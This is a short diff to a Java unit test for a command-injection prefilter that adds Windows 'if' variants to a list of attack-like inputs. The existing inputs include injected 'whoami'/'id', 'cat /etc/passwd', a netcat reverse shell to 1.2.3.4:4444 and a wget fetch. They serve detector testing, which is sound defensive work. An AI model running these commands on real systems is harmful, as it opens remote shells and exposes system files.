@@ -33,7 +33,7 @@ class CmdiPrefilterTest {
       "!-1!-2", "~+", "cat+/etc/passwd", "FOR %i IN (a) DO x", "IF EXIST x y", "g++ -o x y.c",
       // command positions and operators the scan must see as the shell lexer does
       "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
-      "note; then whoami", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x"})
+      "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x"})
   void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
     PrefilterEdges.passes(detector, v);
   }
